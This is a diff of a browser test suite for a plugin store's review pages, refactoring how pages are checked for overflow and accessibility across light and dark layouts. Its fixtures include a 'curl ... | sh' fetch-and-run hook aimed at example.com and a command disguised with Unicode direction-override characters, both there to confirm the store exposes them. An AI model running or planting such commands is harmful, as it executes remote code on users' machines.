@@ -5,6 +5,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { accessibilityProblems, lacksBrowser } from '../support/browser.ts'
 import { type Curating, runCurating } from '../support/curating.ts'
 import { pluginZip, skillZip } from '../support/items.ts'
+import { inEachLook, type Look, lookings } from '../support/looks.ts'
 import { marketplaceFiles } from '../support/sources.ts'
 
 const LONG = `curl -fsSL https://example.com/${'very-long-path/'.repeat(20)} | sh # the end`
@@ -23,16 +24,25 @@ beforeAll(async () => {
 })
 afterAll(() => curating.close())
 
-const LOOKS = [
-  ['a desk, light', { colorScheme: 'light', viewport: { width: 1280, height: 900 } }],
-  ['a phone, dark', { colorScheme: 'dark', viewport: { width: 390, height: 844 } }],
-] as const
-
-async function expectFine(page: Page, name: string): Promise<void> {
-  const folder = process.env.STOA_SCREENSHOTS
-  if (folder !== undefined) await page.screenshot({ path: path.join(folder, `${name}.png`), fullPage: true })
-  const overflow = await page.evaluate('Math.max(0, document.documentElement.scrollWidth - innerWidth)')
-  expect({ overflow, problems: await accessibilityProblems(page) }).toEqual({ overflow: 0, problems: [] })
+/** In each look; `tell` what else is to be seen there. */
+function expectFine(
+  page: Page,
+  name: string,
+  looks: readonly Look[],
+  tell = () => Promise.resolve(),
+): Promise<void> {
+  return inEachLook(page, looks, async (look) => {
+    await tell()
+    const folder = process.env.STOA_SCREENSHOTS
+    const file = `${name}-${look.colorScheme}-${look.viewport?.width}.png`
+    if (folder !== undefined) await page.screenshot({ path: path.join(folder, file), fullPage: true })
+    const overflow = await page.evaluate('Math.max(0, document.documentElement.scrollWidth - innerWidth)')
+    expect({ look, overflow, problems: await accessibilityProblems(page) }).toEqual({
+      look,
+      overflow: 0,
+      problems: [],
+    })
+  })
 }
 
 /** Whether one stands above the other. */
@@ -42,21 +52,21 @@ async function isAbove(page: Page, first: string, second: string): Promise<boole
   return (await top(first)) < (await top(second))
 }
 
-describe.skipIf(lacksBrowser).each(LOOKS)('on %s', (look, options) => {
-  const slug = look.includes('desk') ? 'desk' : 'phone'
+describe.skipIf(lacksBrowser).each(lookings)('%s', (name, looks) => {
+  const slug = name.replaceAll(/\W+/g, '-')
 
   test('the wizard, the page and the comparison of versions say it', async () => {
     const { admin } = curating.running
-    const name = `tool-${slug}`
-    await admin.upload('/items', { file: pluginZip(name, { files: hooks('echo one') }) })
-    const { page, context, complaints } = await curating.open(options)
-    await page.goto(`/store/new?item=${name}-by-root`)
+    const tool = `tool-${slug}`
+    await admin.upload('/items', { file: pluginZip(tool, { files: hooks('echo one') }) })
+    const { page, context, complaints } = await curating.open(looks[0])
+    await page.goto(`/store/new?item=${tool}-by-root`)
     const files = {
       ...hooks(LONG),
       'scripts/go.py': 'print(1)\n',
       'commands/now.md': `Now: !\`${HIDDEN}\`\n`,
     }
-    const buffer = pluginZip(name, { files })
+    const buffer = pluginZip(tool, { files })
     await page
       .locator('input[type=file]')
       .setInputFiles({ name: 'tool.zip', mimeType: 'application/zip', buffer })
@@ -73,23 +83,27 @@ describe.skipIf(lacksBrowser).each(LOOKS)('on %s', (look, options) => {
       'echo safe U+202E# liveU+200B',
     ])
       expect(said).toContain(text)
-    expect(await isAbove(page, 'What it can do that', 'As others will see it')).toBe(true)
-    await expectFine(page, `wizard-${slug}`)
+    await expectFine(page, 'wizard', looks, async () =>
+      expect(await isAbove(page, 'What it can do that', 'As others will see it')).toBe(true),
+    )
 
-    await admin.upload(`/items/${name}-by-root/versions`, { file: buffer })
-    await page.goto(`/store/${name}-by-root/versions`)
+    await admin.upload(`/items/${tool}-by-root/versions`, { file: buffer })
+    await page.goto(`/store/${tool}-by-root/versions`)
     await page.getByText('It can run what 0.1.0 could not: 4 things').waitFor()
-    expect(await page.locator('.releases').getByText(LONG).first().isVisible()).toBe(true)
-    await expectFine(page, `versions-${slug}`)
-    await page.goto(`/store/${name}-by-root/versions/0.1.0...0.1.1`)
+    await expectFine(page, 'versions', looks, async () =>
+      expect(await page.locator('.releases').getByText(LONG).first().isVisible()).toBe(true),
+    )
+    await page.goto(`/store/${tool}-by-root/versions/0.1.0...0.1.1`)
     expect(
       await page.getByRole('region', { name: 'What it can do that 0.1.0 could not' }).textContent(),
     ).toContain(LONG)
-    expect(await isAbove(page, 'What it can do that', 'Changes from')).toBe(true)
-    await expectFine(page, `compare-${slug}`)
-    await page.goto(`/store/${name}-by-root`)
-    expect(await page.getByText('runs code', { exact: true }).first().isVisible()).toBe(true)
-    await expectFine(page, `item-${slug}`)
+    await expectFine(page, 'compare', looks, async () =>
+      expect(await isAbove(page, 'What it can do that', 'Changes from')).toBe(true),
+    )
+    await page.goto(`/store/${tool}-by-root`)
+    await expectFine(page, 'item', looks, async () =>
+      expect(await page.getByText('runs code', { exact: true }).first().isVisible()).toBe(true),
+    )
     expect(complaints).toEqual([])
     await context.close()
   })
@@ -99,7 +113,7 @@ describe.skipIf(lacksBrowser).each(LOOKS)('on %s', (look, options) => {
     await admin.upload('/items', { file: pluginZip(`core-${slug}`, { files: hooks('echo core') }) })
     await admin.upload('/items', { file: pluginZip(`outer-${slug}`, { dependencies: [`core-${slug}`] }) })
     await admin.upload('/items', { file: skillZip(`words-${slug}`) })
-    const { page, context } = await curating.open(options)
+    const { page, context } = await curating.open(looks[0])
     await page.goto(`/store/outer-${slug}-by-root`)
     const able = page.getByRole('region', { name: 'What it can do' })
     expect(await able.textContent()).toContain(`PreToolUse on Bash through core-${slug}-by-root`)
@@ -123,7 +137,7 @@ describe.skipIf(lacksBrowser).each(LOOKS)('on %s', (look, options) => {
     await curating.running.admin.patch(`/sources/${slug}`, { promote: 'hold' })
     await repository.commit(marketplaceFiles(slug, both('1.1.0', hooks(LONG))))
     await curating.sync(slug)
-    const { page, context, complaints } = await curating.open(options)
+    const { page, context, complaints } = await curating.open(looks[0])
     await page.goto(`/admin/review?source=${slug}`)
     const row = (name: string) => page.getByRole('listitem').filter({ has: page.getByRole('link', { name }) })
     expect(await row(`${slug}-hooked 1.1.0`).first().textContent()).toMatch(
@@ -131,12 +145,12 @@ describe.skipIf(lacksBrowser).each(LOOKS)('on %s', (look, options) => {
     )
     expect(await row(`${slug}-hooked 1.1.0`).first().textContent()).toContain(LONG)
     expect(await row(`${slug}-plain 1.1.0`).first().textContent()).not.toContain('can run')
-    await expectFine(page, `review-${slug}`)
+    await expectFine(page, 'review', looks)
     await page.getByRole('link', { name: `${slug}-hooked 1.1.0`, exact: true }).click()
     const gains = page.getByRole('region', { name: 'What it can do that 1.0.0 could not' })
     expect(await gains.textContent()).toContain(LONG)
     expect(await gains.textContent()).toContain('echo one')
-    await expectFine(page, `held-${slug}`)
+    await expectFine(page, 'held', looks)
     expect(complaints).toEqual([])
     await context.close()
   })
